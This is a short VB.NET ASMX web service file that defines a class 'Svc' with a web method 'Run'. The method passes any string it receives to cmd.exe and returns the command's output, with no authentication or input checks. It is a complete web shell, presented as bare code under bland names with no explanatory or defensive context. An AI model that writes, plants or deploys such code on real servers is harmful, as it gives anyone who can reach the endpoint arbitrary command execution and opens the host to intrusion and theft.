<%@ WebService Language="VB" Class="Svc" %>
Imports System.Web.Services
Imports System.Diagnostics

Public Class Svc
    Inherits WebService

    <WebMethod()> Public Function Run(ByVal c As String) As String
        Dim si As New ProcessStartInfo("cmd.exe", "/c " & c)
        si.UseShellExecute = False
        si.RedirectStandardOutput = True
        Dim pr As Process = Process.Start(si)
        Return pr.StandardOutput.ReadToEnd()
    End Function
End Class
